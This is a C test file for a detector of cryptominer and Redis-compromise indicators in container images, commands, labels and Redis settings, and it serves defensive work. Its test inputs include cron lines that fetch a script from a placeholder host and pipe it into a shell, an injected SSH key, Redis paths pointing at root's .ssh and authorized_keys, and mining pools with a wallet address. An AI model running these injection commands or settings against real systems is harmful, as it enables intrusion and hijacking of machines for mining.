/*
 * test_indicators.c - the compromise-indicator matcher over the data file
 * (checks/compromise/indicators.def): what matches, in which field, and
 * what must not (our own traffic, a word in an unrelated field, a
 * documentation page).
 */
#include <criterion/criterion.h>
#include <string.h>
#include "expo.h"
#include "indicators.h"

#define WALLET                                                                \
	"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb" \
	"98uNbr2VBBEt7f2wfn3RVGQBEP3A"

static bool m(const char *field, const char *text, struct ind_match *out)
{
	return ind_match_named(field, text, strlen(text), out);
}

Test(indicators, version_and_every_entry_has_a_source)
{
	struct ind_match e;
	unsigned fields;
	size_t i;

	cr_assert(strlen(ind_version()) > 0);
	cr_assert(ind_count() >= 20);
	for (i = 0; i < ind_count(); i++) {
		cr_assert(ind_entry(i, &e, &fields));
		cr_assert(fields != 0, "entry %zu has no field", i);
		cr_assert(e.kind != NULL && e.kind[0] != '\0');
		cr_assert(e.source != NULL && strlen(e.source) > 10,
			  "entry %s has no source", e.pattern);
	}
	cr_assert_not(ind_entry(ind_count(), &e, NULL));
}

Test(indicators, miner_binary_in_image_command_and_name)
{
	struct ind_match r;

	cr_assert(m("image", "lab/xmrig:6.21.0", &r));
	cr_assert_str_eq(r.kind, "miner binary");
	cr_assert_str_eq(r.pattern, "xmrig");
	cr_assert_eq(r.off, 4);
	cr_assert_eq(r.len, 5);
	cr_assert(m("command", "/tmp/kdevtmpfsi -B", &r));
	cr_assert_str_eq(r.pattern, "kdevtmpfsi");
	cr_assert(m("entrypoint", "/usr/bin/XMRig-notls", &r));
	cr_assert(m("name", "xmrig", &r));
	cr_assert(m("args", "--donate-level=1 -o x", &r));
	cr_assert_str_eq(r.kind, "miner option");
}

Test(indicators, tokens_need_word_boundaries)
{
	/* "xmrig" inside a longer word is not the miner */
	cr_assert_not(m("image", "library/axmrigz:1", NULL));
	cr_assert_not(m("command", "kinsingerland --serve", NULL));
	cr_assert_not(m("image", "nginx:1.25", NULL));
	cr_assert_not(m("command", "redis-server --appendonly yes", NULL));
}

Test(indicators, pools_stratum_and_wallet)
{
	struct ind_match r;

	cr_assert(m("command",
		    "./a -o stratum+tcp://gulf.moneroocean.stream:10128 -u x",
		    &r));
	cr_assert_str_eq(r.kind, "stratum URL");
	cr_assert(m("command", "./a -o pool.supportxmr.com:443", &r));
	cr_assert_str_eq(r.kind, "mining pool");
	cr_assert(m("command", "./a -u " WALLET " -p x", &r));
	cr_assert_str_eq(r.kind, "Monero wallet address");
	cr_assert_eq(r.len, 95);
	cr_assert_eq(r.off, 7);
	/* a label may carry a wallet or a stratum URL, never a word */
	cr_assert(m("label", WALLET, &r));
	cr_assert(m("label", "stratum+ssl://10.0.0.1:3333", &r));
	/* one character more or less is not an address */
	cr_assert_not(m("command", "./a -u " WALLET "x", NULL));
	cr_assert_not(m("command", "./a -u 5" WALLET, NULL));
}

Test(indicators, cron_injection_values_and_redis_config)
{
	struct ind_match r;

	cr_assert(m(
		"value",
		"\n\n*/2 * * * * root curl -fsSL http://1.2.3.4/b.sh | sh\n\n",
		&r));
	cr_assert_str_eq(r.pattern, "fetch-pipe-shell");
	cr_assert(
		m("value", "*/1 * * * * wget -q -O- http://x/y|/bin/bash", &r));
	cr_assert(m("value", "* * * * * curl http://x/y | sudo  bash -s", &r));
	cr_assert(m("value", "\n\nssh-rsa AAAAB3NzaC1yc2E crack@it\n\n", &r));
	cr_assert_str_eq(r.pattern, "ssh-key-value");
	cr_assert_not(m("value", "curl http://x || shutdown", NULL));
	cr_assert_not(m("value", "curl http://x | grep sh", NULL));
	cr_assert_not(m("value", "ssh | curl", NULL));
	cr_assert(m("dir", "/var/spool/cron/crontabs", &r));
	cr_assert(m("dir", "/etc/cron.d", &r));
	cr_assert(m("dir", "/root/.ssh", &r));
	cr_assert(m("dir", "/home/u/.ssh/", &r));
	cr_assert(m("dbfilename", "authorized_keys", &r));
	cr_assert_not(m("dir", "/var/lib/redis", NULL));
	cr_assert_not(m("dir", "/data/not.ssh", NULL));
	cr_assert_not(m("dbfilename", "dump.rdb", NULL));
	/* a fetch-and-pipe in a container command is an installer, not a
	 * sign: only a Redis value of a cron-injection key counts */
	cr_assert_not(
		m("command", "curl -fsSL https://get.example | sh", NULL));
}

Test(indicators, unrelated_fields_and_documentation_never_match)
{
	static const char doc[] =
		"<html><body><h1>Detecting miners</h1><p>Block xmrig, "
		"kdevtmpfsi and stratum+tcp://pool.supportxmr.com:443; a "
		"Monero address looks like " WALLET ".</p>"
		"<pre>*/2 * * * * curl http://x | sh</pre></body></html>";

	cr_assert_not(m("body", doc, NULL));
	cr_assert_not(m("description", doc, NULL));
	cr_assert_not(m("log", "killed xmrig from pool.supportxmr.com", NULL));
	cr_assert_not(m(NULL, doc, NULL));
	/* words in a label (a decoy) are not signs; shapes are */
	cr_assert_not(m("label",
			"this host blocks xmrig and kinsing and "
			"pool.supportxmr.com",
			NULL));
	/* the right field is needed: a pool name is not an image sign */
	cr_assert_not(m("image", "supportxmr.com/x:1", NULL));
	cr_assert(m("command", doc, NULL)); /* the same text, a command */
}

Test(indicators, our_own_traffic_never_matches)
{
	static const char *const ours[] = {
		"exposure/" EXPO_VERSION, /* HTTP User-Agent */
		"exposure",		  /* the container image */
		"exposure --help",
		"/version",
		"/v1.43/containers/json?all=1",
		"/v1.43/images/json",
		"INFO",
		"EXISTS backup1",
		"CONFIG GET dir",
		"xp0a1b2c3d4e5f6", /* a canary account name */
	};
	static const char *const fields[] = { "image",	   "command", "name",
					      "label",	   "value",   "dir",
					      "dbfilename" };
	size_t i, k;

	for (i = 0; i < sizeof(ours) / sizeof(ours[0]); i++)
		for (k = 0; k < sizeof(fields) / sizeof(fields[0]); k++)
			cr_assert_not(m(fields[k], ours[i], NULL), "%s in %s",
				      ours[i], fields[k]);
}

Test(indicators, bounded_and_binary_safe)
{
	static char big[IND_TEXT_MAX + 64];
	struct ind_match r;

	memset(big, 'a', sizeof(big));
	memcpy(big + IND_TEXT_MAX + 8, "xmrig", 5);
	/* past the bound: not looked at */
	cr_assert_not(ind_match(IND_F_CMD, big, sizeof(big), NULL));
	memcpy(big + 100, " xmrig ", 7);
	cr_assert(ind_match(IND_F_CMD, big, sizeof(big), &r));
	cr_assert_eq(r.off, 101);
	/* a NUL does not end the text */
	cr_assert(ind_match(IND_F_CMD, "a\0xmrig", 7, &r));
	cr_assert_not(ind_match(0, "xmrig", 5, NULL));
	cr_assert_not(ind_match(IND_F_CMD, NULL, 5, NULL));
}

/* the 2026.12.2 review of the data against its sources: added what the
 * sources name (Graboid's worm image, the crontab dump file, xmrpool.net
 * as Falco's list has it), dropped what no reviewed source said
 * (moneroocean.stream, c3pool.com, xmrpool.eu) */
Test(indicators, review_2026_12_2)
{
	struct ind_match r;

	cr_assert_str_eq(ind_version(), "2026.12.2");
	cr_assert(m("image", "pocosow/centos:7.6.1810", &r));
	cr_assert_str_eq(r.kind, "campaign image");
	cr_assert(m("dbfilename", "crontab", &r));
	cr_assert_str_eq(r.kind, "Redis dbfilename set to crontab");
	cr_assert_not(m("dbfilename", "dump.rdb", NULL));
	cr_assert(m("command", "./a -o mine.xmrpool.net:3333", &r));
	cr_assert_str_eq(r.kind, "mining pool");
	cr_assert_not(
		m("command", "./a -o gulf.moneroocean.stream:10128", NULL));
	cr_assert_not(m("command", "./a -o auto.c3pool.org:19999", NULL));
	cr_assert_not(m("command", "./a -o pool.xmrpool.eu:3333", NULL));
	/* a sourced shape still catches them in a miner's command line */
	cr_assert(
		m("command", "./a -o stratum+tcp://auto.c3pool.org:19999", &r));
	cr_assert_str_eq(r.kind, "stratum URL");
}
